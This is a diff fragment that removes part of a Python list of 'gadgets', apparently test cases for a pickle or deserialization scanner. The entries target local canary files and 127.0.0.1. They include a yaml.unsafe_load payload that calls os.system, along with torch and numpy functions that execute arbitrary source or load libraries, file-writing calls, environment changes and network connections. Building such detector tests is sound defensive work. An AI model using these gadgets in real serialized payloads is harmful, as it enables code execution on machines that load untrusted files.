-        lambda c: call("cloudpickle.cloudpickle._make_function", c.code, {}, "f", (), ()),
-        fires=False,
-    ),
-    Gadget("shelve", lambda c: call("shelve.open", c.file)),
-    Gadget(
-        "yaml",
-        lambda c: call("yaml.unsafe_load", f"!!python/object/apply:os.system [{c.command!r}]"),
-    ),
-    # torch and numpy
-    Gadget(
-        "torch.hub",
-        lambda c: call(
-            "torch.hub._load_local", str(Path(c.helper("hubconf.py")).parent), "entry"
-        ),
-    ),
-    Gadget("torch.utils.collect_env", lambda c: call("torch.utils.collect_env.run", c.command)),
-    Gadget(
-        "torch execWrapper",
-        lambda c: call("torch.jit.unsupported_tensor_ops.execWrapper", c.source, {}, {}),
-    ),
-    Gadget(
-        "torch bottleneck",
-        lambda c: call("torch.utils.bottleneck.__main__.run_cprofile", c.code, {}),
-        fires=False,
-    ),
-    Gadget(
-        "torch storage from a file",
-        lambda c: call("torch:UntypedStorage.from_file", c.file, True, 16),
-    ),
-    Gadget(
-        "torch _dynamo",
-        lambda c: call("torch._dynamo.guards:GuardBuilder.get", {}, c.source),
-        fires=False,
-    ),
-    Gadget(
-        "torch _inductor",
-        lambda c: call("torch._inductor.codecache.compile_file", "", "", ["touch", c.file]),
-        fires=False,
-    ),
-    Gadget(
-        "torch.fx",
-        lambda c: call("torch.fx.graph_module.reduce_graph_module", {}, ""),
-        fires=False,
-    ),
-    Gadget(
-        "torch TCPStore", lambda c: call("torch.distributed.TCPStore", *c.host), fires=False
-    ),
-    Gadget(
-        "torch.ops", lambda c: call("torch.ops.load_library", c.helper("lib.so")), fires=False
-    ),
-    Gadget(
-        "numpy runstring",
-        lambda c: call("numpy.testing._private.utils.runstring", c.source, {}),
-    ),
-    Gadget(
-        "numpy f2py",
-        lambda c: call("numpy.f2py.crackfortran.getlincoef", c.source, {}),
-        fires=False,
-    ),
-    Gadget("numpy.memmap", lambda c: call("numpy.memmap", c.file, "uint8", "w+", 0, (4,))),
-    Gadget("numpy.savetxt", lambda c: call("numpy.savetxt", c.file, [1.0])),
-    # files
-    Gadget("os.open", lambda c: call("os.open", c.file, os.O_CREAT | os.O_WRONLY)),
-    Gadget("os.mkdir", lambda c: call("os.mkdir", c.file)),
-    Gadget("os.symlink", lambda c: call("os.symlink", "/nowhere", c.file)),
-    Gadget("io.FileIO", lambda c: call("io.FileIO", c.file, "w")),
-    Gadget("_io.FileIO", lambda c: call("_io.FileIO", c.file, "w")),
-    Gadget("io.open", lambda c: call("io.open", c.file, "w")),
-    Gadget("codecs.open", lambda c: call("codecs.open", c.file, "w")),
-    Gadget("gzip.open", lambda c: call("gzip.open", c.file, "w")),
-    Gadget("zipfile.ZipFile", lambda c: call("zipfile.ZipFile", c.file, "w")),
-    Gadget("sqlite3.connect", lambda c: call("sqlite3.connect", c.file)),
-    Gadget("shutil.copyfile", lambda c: call("shutil.copyfile", c.helper("a.py"), c.file)),
-    Gadget("pathlib", lambda c: call("pathlib:Path.touch", call("pathlib.PosixPath", c.file))),
-    Gadget("tempfile.mkstemp", lambda c: call("tempfile.mkstemp", "", "canary", str(c.folder))),
-    Gadget("logging.FileHandler", lambda c: call("logging.FileHandler", c.file)),
-    Gadget("distutils", lambda c: call("distutils.file_util.write_file", c.file, ["x"])),
-    # the environment and the network
-    Gadget("os.environ", lambda c: call("os:environ.update", {"CANARY": "1"})),
-    Gadget("os.putenv", lambda c: call("os.putenv", "CANARY_IN_C", "1")),
-    Gadget("socket", lambda c: call("socket.create_connection", c.host)),
-    Gadget(
-        "http.client",
-        lambda c: call(
-            "http.client:HTTPConnection.connect", call("http.client.HTTPConnection", *c.host)
-        ),
-    ),
-    Gadget(
-        "urllib.request",
-        lambda c: call("urllib.request.urlopen", f"http://127.0.0.1:{c.port}/"),
-    ),
-    Gadget("ftplib", lambda c: call("ftplib:FTP.connect", call("ftplib.FTP"), *c.host)),
-    Gadget("smtplib", lambda c: call("smtplib.SMTP", *c.host)),
-    Gadget("poplib", lambda c: call("poplib.POP3", *c.host)),
-    Gadget("ssl", lambda c: call("ssl.get_server_certificate", c.host)),
-    Gadget("telnetlib", lambda c: call("telnetlib.Telnet", *c.host)),
-    Gadget(
-        "requests",
-        lambda c: call("requests.api.get", f"http://127.0.0.1:{c.port}/"),
-        fires=False,
-    ),
-    Gadget("aiohttp", lambda c: call("aiohttp.client.ClientSession"), fires=False),
-    Gadget("os._exit", lambda c: call("os._exit", 0), fires=False),
-    Gadget("sys.exit", lambda c: call("sys.exit", 0), fires=False),
-)
